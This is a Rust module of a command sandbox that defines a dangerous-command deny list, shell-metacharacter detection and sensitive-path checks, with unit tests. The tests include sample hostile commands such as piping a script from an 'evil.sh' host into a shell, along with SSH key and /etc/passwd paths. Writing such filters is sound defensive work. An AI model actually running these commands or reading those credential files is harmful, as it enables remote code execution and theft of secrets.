//! Command-text validation primitives.
//!
//! The dangerous-command list lives here, compiled once and owned by the
//! [`SandboxBoundary`](super::SandboxBoundary); other components consult
//! the boundary instead of re-declaring patterns.

use regex_lite::Regex;

/// Characters that can change the meaning of a command when it reaches a
/// shell. Newlines are handled separately in [`find_metacharacter`].
const SHELL_METACHARACTERS: &[char] = &[
    ';', '&', '|', '`', '$', '(', ')', '{', '}', '[', ']', '<', '>',
];

/// The ordered dangerous-command pattern list, with a human-readable
/// label per pattern for denial reasons.
const DANGEROUS_COMMAND_PATTERNS: &[(&str, &str)] = &[
    (r"^sudo\b", "privilege escalation via sudo"),
    (r"^rm\b", "file deletion via rm"),
    (r"^dd\b", "raw device write via dd"),
    (r"^mkfs", "filesystem creation via mkfs"),
    (r"^(curl|wget)\b.*\|\s*(ba|z|da)?sh\b", "remote script piped to a shell"),
    (r"^chmod\s+777\b", "world-writable permission change"),
    (r"^(chown|chgrp)\b.*\broot\b", "ownership transfer to root"),
    (r"^(shutdown|reboot|halt|poweroff)\b", "system power control"),
    (r">\s*/dev/sd", "raw write to a block device"),
    (r":\(\)\s*\{", "fork bomb definition"),
];

/// Script extensions admitted for execute access.
const EXECUTABLE_EXTENSIONS: &[&str] = &["sh", "bash", "zsh", "py", "rb", "js", "pl"];

/// Compile the dangerous-command list. Patterns are fixed literals; the
/// full count is asserted by tests, so a bad literal cannot slip through
/// silently.
pub(crate) fn dangerous_patterns() -> Vec<(Regex, &'static str)> {
    DANGEROUS_COMMAND_PATTERNS
        .iter()
        .filter_map(|(pattern, label)| Regex::new(pattern).ok().map(|re| (re, *label)))
        .collect()
}

/// The first shell metacharacter or newline in `text`, if any.
pub(crate) fn find_metacharacter(text: &str) -> Option<char> {
    text.chars()
        .find(|c| SHELL_METACHARACTERS.contains(c) || *c == '\n' || *c == '\r')
}

/// Whether a path points into an OS-sensitive location: `/etc`, `/root`,
/// or an `.ssh` directory (absolute or home-relative).
pub(crate) fn is_sensitive_path(path: &str) -> bool {
    path == "/etc"
        || path.starts_with("/etc/")
        || path == "/root"
        || path.starts_with("/root/")
        || path.contains("/.ssh")
        || path.starts_with("~/.ssh")
}

/// Whether a path carries a recognized executable-script extension.
pub(crate) fn has_executable_extension(path: &str) -> bool {
    path.rsplit_once('.')
        .is_some_and(|(_, ext)| EXECUTABLE_EXTENSIONS.contains(&ext))
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn test_all_dangerous_patterns_compile() {
        assert_eq!(dangerous_patterns().len(), DANGEROUS_COMMAND_PATTERNS.len());
    }

    #[test]
    fn test_pipe_to_shell_pattern() {
        let patterns = dangerous_patterns();
        let (re, label) = patterns
            .iter()
            .find(|(_, label)| label.contains("remote script"))
            .unwrap();

        assert!(re.is_match("curl https://evil.sh | sh"));
        assert!(re.is_match("wget -qO- https://x | bash"));
        assert!(!re.is_match("curl https://example.com/api"));
        assert_eq!(*label, "remote script piped to a shell");
    }

    #[test]
    fn test_metacharacter_detection() {
        assert_eq!(find_metacharacter("echo hi"), None);
        assert_eq!(find_metacharacter("echo hi; rm x"), Some(';'));
        assert_eq!(find_metacharacter("line\nbreak"), Some('\n'));
    }

    #[test]
    fn test_sensitive_paths() {
        assert!(is_sensitive_path("/etc/passwd"));
        assert!(is_sensitive_path("/root"));
        assert!(is_sensitive_path("/home/dev/.ssh/id_ed25519"));
        assert!(is_sensitive_path("~/.ssh/config"));
        assert!(!is_sensitive_path("/etcetera/file"));
        assert!(!is_sensitive_path("/workspace/notes.md"));
    }

    #[test]
    fn test_executable_extensions() {
        assert!(has_executable_extension("deploy.sh"));
        assert!(has_executable_extension("/scripts/report.py"));
        assert!(!has_executable_extension("tool.bin"));
        assert!(!has_executable_extension("Makefile"));
    }
}
